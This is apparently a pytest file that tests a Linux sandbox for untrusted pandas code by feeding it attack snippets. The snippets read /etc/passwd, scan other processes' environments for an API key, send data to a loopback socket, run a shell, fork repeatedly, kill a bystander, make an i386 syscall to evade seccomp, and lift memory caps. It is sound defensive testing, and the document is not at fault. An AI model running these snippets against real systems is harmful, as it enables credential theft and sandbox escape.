"""Adversarial code against the kernel layers, which are the boundary (the gate is bypassed on purpose).

Each attack runs through `Sandbox._run_unscreened`, which skips the gate and the worker-side import and
builtin guards. Every attack is checked twice: the full sandbox must stop it, and a sandbox with the
layer(s) that stop it switched off must let it through. The second check proves the first one tests
that layer: if the layer were removed, the first assertion would fail.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator

import pandas as pd
import pytest

from smolclean_dagster.sandbox import ResourceLimitExceeded, Sandbox, SandboxCrashed, SandboxError, SandboxTimeout

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the kernel layers are Linux-only")

FRAME = pd.DataFrame({"a": [1.0, None, 3.0]})
SECRET = "sk-attack-test-0123456789"


@pytest.fixture(scope="module")
def sandboxes() -> Iterator[Callable[..., Sandbox]]:
    """Sandboxes by the layers they leave off, started on first use and shared by this module."""
    opened: dict[frozenset[str], Sandbox] = {}

    def without(*layers: str) -> Sandbox:
        key = frozenset(layers)
        if key not in opened:
            opened[key] = Sandbox(workers=1, disable=tuple(sorted(key)), memory_mb=1024)
        return opened[key]

    yield without
    for sb in opened.values():
        sb.close()


@pytest.fixture(scope="module")
def full(sandboxes) -> Sandbox:
    return sandboxes()


def needs(full: Sandbox, *layers: str) -> None:
    """Skip when this kernel cannot provide a layer under test.

    Asked of the kernel directly, not of the sandbox's own report: a layer broken in our code must make
    these tests fail, not skip.
    """
    missing = [name for name in layers if not _kernel_offers(name)]
    if missing:
        pytest.skip(f"the kernel does not offer {', '.join(missing)} ({'; '.join(full.level.notes)})")


def _kernel_offers(layer: str) -> bool:
    """Probe the kernel with direct syscalls, so that a broken lockdown.py cannot turn failures into skips."""
    if layer == "landlock":
        return _landlock_abi() >= 1
    if layer == "seccomp":
        with open("/proc/self/status") as status:
            if "Seccomp:" not in status.read():
                return False
        try:
            import pyseccomp  # noqa: F401
        except (ImportError, OSError):
            return False
        return True
    if layer == "netns":
        before = os.readlink("/proc/self/ns/net")
        pid = os.fork()
        if pid == 0:
            try:
                ctypes.CDLL(None).unshare(0x40000000)  # CLONE_NEWNET
                os._exit(0 if os.readlink("/proc/self/ns/net") != before else 1)
            finally:
                os._exit(1)
        return os.waitpid(pid, 0)[1] == 0
    return True


def attempt(sb: Sandbox, code: str, *, timeout_s: float = 10.0) -> pd.DataFrame | SandboxError:
    """The frame the attack returned (it got through) or the SandboxError that stopped it."""
    try:
        return sb._run_unscreened(code, FRAME, timeout_s=timeout_s)
    except SandboxError as exc:
        return exc


def _landlock_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return max(int(libc.syscall(444, None, ctypes.c_size_t(0), ctypes.c_uint32(1))), 0)


@pytest.fixture
def bystander() -> Iterator[subprocess.Popen]:
    """A process of the orchestrator's user holding an API key in its environment, as the orchestrator does."""
    proc = subprocess.Popen(["sleep", "60"], env={"PATH": os.environ["PATH"], "FAKE_API_KEY": SECRET})
    yield proc
    proc.kill()
    proc.wait(10)


# --------------------------------------------------------------------------- files (Landlock)

READ_PASSWD = '''
import pandas as pd

def f(df):
    with pd.io.common.get_handle("/etc/passwd", "r") as handles:
        return pd.DataFrame({"evidence": [handles.handle.read()[:40]]})
'''


def test_reading_host_files_through_pandas_internals_is_blocked(full, sandboxes):
    needs(full, "landlock")
    stopped = attempt(full, READ_PASSWD)
    assert isinstance(stopped, SandboxCrashed) and "Permission denied: '/etc/passwd'" in str(stopped)
    escaped = attempt(sandboxes("landlock"), READ_PASSWD)
    assert isinstance(escaped, pd.DataFrame) and escaped["evidence"][0].startswith("root:")


def test_writing_a_file_through_an_aliased_bound_method_is_blocked(full, sandboxes, tmp_path):
    needs(full, "landlock")
    target = tmp_path / "pwned.csv"
    code = f"def f(df):\n    df.pipe(lambda d: d.to_csv)({str(target)!r})\n    return df\n"
    assert isinstance(attempt(full, code), SandboxCrashed)
    assert not target.exists()
    attempt(sandboxes("landlock"), code)  # RLIMIT_FSIZE=0 still fails the write, but the file appears
    assert target.exists()


ENVIRON_SCAN = '''
import os
import pandas as pd

def f(df):
    hits = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as fh:
                    if b"FAKE_API_KEY=" in fh.read():
                        hits.append(pid)
            except OSError:
                pass
    return pd.DataFrame({"evidence": hits})
'''


def test_other_processes_environments_are_unreadable(full, sandboxes, bystander):
    needs(full, "landlock")
    stopped = attempt(full, ENVIRON_SCAN)
    assert isinstance(stopped, SandboxCrashed) and "Permission denied: '/proc'" in str(stopped)
    escaped = attempt(sandboxes("landlock"), ENVIRON_SCAN)
    assert isinstance(escaped, pd.DataFrame) and str(bystander.pid) in set(escaped["evidence"])


# --------------------------------------------------------------------------- network (netns, seccomp, Landlock)

TCP_TO = '''
import socket
import pandas as pd

def f(df):
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(b"exfiltrated")
    return pd.DataFrame({{"evidence": ["connected"]}})
'''


class _Received(list):
    """What the listener received, and an event set once it received something (its thread may take its time)."""

    def __init__(self) -> None:
        super().__init__()
        self.arrived = threading.Event()


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on the host's loopback that records what it receives."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received = _Received()
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(100))
            received.arrived.set()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.mark.parametrize(
    ("only", "off"),
    [
        ("all layers", ()),
        ("netns alone", ("seccomp", "landlock")),
        ("seccomp alone", ("netns", "landlock")),
        ("landlock alone", ("netns", "seccomp")),
    ],
)
def test_tcp_to_a_loopback_listener_is_blocked(full, sandboxes, listener, only, off):
    port, received = listener
    needs(full, "netns", "seccomp", "landlock")
    if only == "landlock alone" and _landlock_abi() < 4:
        pytest.skip("Landlock before ABI 4 does not handle TCP")
    result = attempt(sandboxes(*off), TCP_TO.format(port=port))
    assert isinstance(result, SandboxError), f"{only}: connected"
    assert received == []


def test_tcp_gets_through_with_all_three_network_layers_off(full, sandboxes, listener):
    port, received = listener
    result = attempt(sandboxes("netns", "seccomp", "landlock"), TCP_TO.format(port=port))
    assert isinstance(result, pd.DataFrame)
    received.arrived.wait(30)  # the listener's thread takes the connection when it is scheduled, on a busy machine later
    assert received == [b"exfiltrated"]




# --------------------------------------------------------------------------- processes (seccomp, Landlock)

def _shell_code(marker) -> str:
    return (f"import subprocess\nimport pandas as pd\n\ndef f(df):\n"
            f"    subprocess.run(['/bin/sh', '-c', ': > {marker}'], check=True)\n"
            f"    return pd.DataFrame({{'evidence': ['ran a shell']}})\n")


@pytest.mark.parametrize("off", [(), ("landlock",), ("seccomp",)], ids=["all", "seccomp-stops-it", "landlock-stops-it"])
def test_running_a_program_is_blocked(full, sandboxes, tmp_path, off):
    needs(full, "seccomp", "landlock")
    marker = tmp_path / "shell-ran"
    assert isinstance(attempt(sandboxes(*off), _shell_code(marker)), SandboxError)
    assert not marker.exists()


def test_running_a_program_works_with_seccomp_and_landlock_off(sandboxes, tmp_path):
    marker = tmp_path / "shell-ran"
    assert isinstance(attempt(sandboxes("seccomp", "landlock"), _shell_code(marker)), pd.DataFrame)
    assert marker.exists()


FORK_BOMB = '''
import os
import pandas as pd

def f(df):
    forked = 0
    for _ in range(20):
        if os.fork() == 0:
            os._exit(0)
        forked += 1
        os.wait()
    return pd.DataFrame({"evidence": [forked]})
'''


def test_a_fork_bomb_cannot_fork_even_as_root(full, sandboxes):
    needs(full, "seccomp")
    stopped = attempt(full, FORK_BOMB)
    assert isinstance(stopped, SandboxCrashed) and "Operation not permitted" in str(stopped)
    escaped = attempt(sandboxes("seccomp"), FORK_BOMB)
    assert isinstance(escaped, pd.DataFrame) and escaped["evidence"][0] == 20


def _kill_code(pid: int) -> str:
    return (f"import os\nimport signal\nimport pandas as pd\n\ndef f(df):\n    os.kill({pid}, signal.SIGKILL)\n"
            f"    return pd.DataFrame({{'evidence': ['killed']}})\n")


@pytest.mark.parametrize("off", [(), ("landlock",), ("seccomp",)], ids=["all", "seccomp-stops-it", "landlock-stops-it"])
def test_killing_a_bystander_process_is_blocked(full, sandboxes, bystander, off):
    needs(full, "seccomp", "landlock")
    if off == ("seccomp",) and _landlock_abi() < 6:
        pytest.skip("Landlock before ABI 6 does not scope signals")
    assert isinstance(attempt(sandboxes(*off), _kill_code(bystander.pid)), SandboxCrashed)
    assert bystander.poll() is None


def test_killing_a_bystander_works_with_seccomp_and_landlock_off(sandboxes, bystander):
    assert isinstance(attempt(sandboxes("seccomp", "landlock"), _kill_code(bystander.pid)), pd.DataFrame)
    assert bystander.wait(timeout=5) == -signal.SIGKILL


I386_SYSCALL = '''
import ctypes
import mmap
import pandas as pd

def f(df):
    code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 20 (i386 getpid); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return pd.DataFrame({"evidence": [ctypes.CFUNCTYPE(ctypes.c_int)(address)()]})
'''


def test_a_foreign_architecture_syscall_kills_the_process_instead_of_bypassing_seccomp(full, sandboxes):
    needs(full, "seccomp")
    if os.uname().machine != "x86_64":
        pytest.skip("the i386 syscall gate exists only on x86_64")
    stopped = attempt(full, I386_SYSCALL)
    assert isinstance(stopped, SandboxCrashed) and "SIGSYS" in str(stopped)
    escaped = attempt(sandboxes("seccomp"), I386_SYSCALL)
    assert isinstance(escaped, pd.DataFrame) and escaped["evidence"][0] > 0


# --------------------------------------------------------------------------- resources (rlimits, deadline)

# np.zeros maps zero pages lazily, so without the cap this succeeds without touching 2 GiB of memory.
ALLOCATE_2_GIB = ("import numpy as np\nimport pandas as pd\n\ndef f(df):\n    block = np.zeros(2 * 2**30, dtype=np.uint8)\n"
                  "    return pd.DataFrame({'evidence': [block.nbytes]})\n")


def test_a_huge_allocation_fails_fast_under_the_memory_cap(full, sandboxes):
    needs(full, "rlimits")
    assert isinstance(attempt(full, "def f(df):\n    return bytearray(10 * 2**30)\n"), ResourceLimitExceeded)
    assert isinstance(attempt(full, ALLOCATE_2_GIB), ResourceLimitExceeded)  # memory_mb=1024 here
    assert isinstance(attempt(sandboxes("rlimits"), ALLOCATE_2_GIB), pd.DataFrame)


RAISE_THE_CAP = ("import resource\n" + ALLOCATE_2_GIB.replace(
    "def f(df):\n", "def f(df):\n    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)\n"))


def test_root_cannot_lift_its_own_memory_cap(full, sandboxes):
    needs(full, "rlimits", "seccomp")
    stopped = attempt(full, RAISE_THE_CAP)
    # Python reports the EPERM from the seccomp filter as this ValueError.
    assert isinstance(stopped, SandboxError) and "not allowed to raise maximum limit" in str(stopped)
    if _has_cap_sys_resource():  # without it the kernel refuses anyway and seccomp makes no difference
        assert isinstance(attempt(sandboxes("seccomp"), RAISE_THE_CAP), pd.DataFrame)


def _has_cap_sys_resource() -> bool:
    with open("/proc/self/status") as status:
        effective = next(line for line in status if line.startswith("CapEff:"))
    return bool(int(effective.split()[1], 16) & (1 << 24))  # CAP_SYS_RESOURCE


def test_a_gil_holding_loop_is_killed_at_the_deadline_and_the_pool_recovers(full):
    stopped = attempt(full, "def f(df):\n    return sum(range(10**12))\n", timeout_s=1.0)
    assert isinstance(stopped, SandboxTimeout)
    assert attempt(full, "def f(df):\n    return df.dropna()\n").equals(FRAME.dropna())


# --------------------------------------------------------------------------- state and protocol (fresh fork)

POISON = '''
import pandas as pd

def clean(df):
    result = df.dropna()
    pd.DataFrame.dropna = lambda self, *args, **kwargs: self.iloc[:0]
    return result
'''


def test_poisoning_pandas_does_not_reach_the_next_call(full):
    assert len(full.run(POISON, FRAME)) == 2
    assert len(full.run(POISON, FRAME)) == 2  # a fresh fork: the first call's monkeypatch is gone


def test_poisoning_does_persist_in_a_reused_worker_which_is_why_runs_fork(full):
    with full.batch_runner(POISON, module=True) as runner:
        assert len(runner.run(FRAME)) == 2
        assert len(runner.run(FRAME)) == 0  # same process: the patch from call 1 is still there


FORGE = '''
import os
import pandas as pd

def f(df):
    print("noise " * 10_000)
    os.write(1, b"\\x00\\x00\\x00\\x05junk" * 1000)
    for fd in range(3, 20):
        try:
            os.write(fd, b"\\x00\\x00\\x00\\x02{}" + b"\\xff" * 64)
        except OSError:
            pass
    return df
'''


def test_forged_frames_and_stdout_floods_cannot_confuse_the_protocol(full):
    # The child can only write to its own reply pipe, so forged bytes garble only its own reply.
    assert isinstance(attempt(full, FORGE), (SandboxCrashed, ResourceLimitExceeded))
    assert attempt(full, "def f(df):\n    return df.fillna(0)\n").equals(FRAME.fillna(0))


def test_require_strong_names_the_missing_layers():
    with pytest.raises(SandboxError, match="unavailable: seccomp"):
        Sandbox(require_strong=True, workers=1, disable=("seccomp",)).start()
